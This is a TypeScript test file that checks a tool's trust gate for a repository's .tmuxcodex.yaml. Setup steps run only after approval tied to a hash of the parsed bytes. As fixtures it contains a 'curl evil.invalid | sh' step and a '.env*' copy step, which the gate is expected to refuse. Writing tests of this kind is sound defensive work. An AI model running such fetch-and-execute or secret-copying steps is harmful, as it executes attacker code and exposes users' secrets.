// Trust in a repository's .tmuxcodex.yaml: approvals bound to the hash of the bytes that were
// parsed. Real files in a temp folder; approvals in a temp XDG_STATE_HOME (never the real HOME).
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadConfig, REPO_CONFIG } from '../../../src/config/load.js';
import { hashBytes, isApproved, isTrusted, requireTrust, trust } from '../../../src/agents/trust.js';
import { refusal } from '../../helpers/refusal.js';

let dir: string;
let repo: string;
let file: string;
let env: NodeJS.ProcessEnv;

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'tmuxcodex-trust-'));
  repo = join(dir, 'repo');
  mkdirSync(repo);
  file = join(repo, REPO_CONFIG);
  env = { HOME: join(dir, 'home'), XDG_CONFIG_HOME: join(dir, 'xdg'), XDG_STATE_HOME: join(dir, 'state') };
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

describe('requireTrust', () => {
  it('checks the bytes that were parsed: a file swapped for an approved one after the parse is refused', async () => {
    writeFileSync(file, 'setup:\n  - run: "curl evil.invalid | sh"\n');
    const { config, repoHash } = await loadConfig({ repoRoot: repo, env });
    expect(repoHash).toBe(hashBytes(readFileSync(file)));
    // Between the parse and the trust check, the file becomes one the user approved.
    writeFileSync(file, 'setup:\n  - run: "npm ci"\n');
    trust(file, env);
    expect(isTrusted(file, env)).toBe(true);
    const e = refusal(() => requireTrust(config, 'shell', file, repoHash, env));
    expect(e.code).toBe('UNTRUSTED_CONFIG');
    expect(e.exitCode).toBe(2);
    expect(e.message).toContain('run: curl evil.invalid | sh');
  });

  it('an untrusted file gets no steps at all: copy, symlink and clone need approval like run', async () => {
    writeFileSync(file, 'setup:\n  - copy: ".env*"\n  - symlink: [a/evil, cache]\n  - clone: node_modules\n');
    const { config, repoHash } = await loadConfig({ repoRoot: repo, env });
    const e = refusal(() => requireTrust(config, 'shell', file, repoHash, env));
    expect(e.code).toBe('UNTRUSTED_CONFIG');
    expect(e.message).toBe(`${file} asks for setup steps or commands you have not approved:\n  copy: .env*\n  symlink: a/evil, cache\n  clone: node_modules`);
    // sync-files asks with no profile: the same steps, the same refusal.
    expect(refusal(() => requireTrust(config, null, file, repoHash, env)).code).toBe('UNTRUSTED_CONFIG');
    trust(file, env);
    expect(() => requireTrust(config, null, file, repoHash, env)).not.toThrow();
  });

  it('lets the steps of an approved, unchanged file through', async () => {
    writeFileSync(file, 'setup:\n  - run: "npm ci"\n');
    trust(file, env);
    const { config, repoHash } = await loadConfig({ repoRoot: repo, env });
    expect(() => requireTrust(config, 'shell', file, repoHash, env)).not.toThrow();
    expect(config.setup).toEqual([{ run: 'npm ci', origin: 'repo' }]);
  });

  it('needs no approval for a file that asks for nothing, and none without a file', async () => {
    writeFileSync(file, 'targets: [main, consumer]\n');
    const { config, repoHash } = await loadConfig({ repoRoot: repo, env });
    expect(() => requireTrust(config, 'shell', file, repoHash, env)).not.toThrow();
    rmSync(file);
    const none = await loadConfig({ repoRoot: repo, env });
    expect(none.repoHash).toBeUndefined();
    expect(() => requireTrust(none.config, 'shell', file, none.repoHash, env)).not.toThrow();
  });

  it('does not take an approval of "__proto__" or another path as one for this file', () => {
    writeFileSync(file, 'setup:\n  - run: "make"\n');
    const hash = hashBytes(readFileSync(file));
    expect(isApproved(file, hash, env)).toBe(false);
    expect(isApproved('__proto__', hash, env)).toBe(false);
    trust(file, env);
    expect(isApproved(file, hash, env)).toBe(true);
    expect(isApproved(join(dir, 'other.yaml'), hash, env)).toBe(false);
  });
});

describe('trust of a file that is no regular file', () => {
  it('a .tmuxcodex.yaml linked to a FIFO or /dev/zero is refused at once, never read (trust, isTrusted)', async () => {
    // In a child, FIFO first: a hang fails this test instead of freezing the run, and code that
    // hangs on the FIFO never reaches /dev/zero.
    await execa('mkfifo', [join(dir, 'fifo')]);
    symlinkSync(join(dir, 'fifo'), file);
    const zero = join(dir, 'zero.yaml');
    symlinkSync('/dev/zero', zero);
    const module = fileURLToPath(new URL('../../../dist/agents/trust.js', import.meta.url));
    const child = `const { trust, isTrusted } = await import(process.argv[1]);
      const env = JSON.parse(process.argv[2]);
      for (const f of process.argv.slice(3)) for (const fn of [trust, isTrusted]) {
        try { fn(f, env); console.log('read'); } catch (e) { console.log(e.code + ' ' + e.message); }
      }`;
    const res = await execa(process.execPath, ['--input-type=module', '-e', child, module, JSON.stringify(env), file, zero], { timeout: 10_000, reject: false });
    expect(res.timedOut).toBe(false);
    expect(res.stdout.split('\n')).toEqual([file, file, zero, zero].map((f) => `CONFIG_UNREADABLE ${f} is not a regular file: a repository's config is read only from a file.`));
    expect(readdirSync(dir)).not.toContain('state'); // nothing approved
  });
});

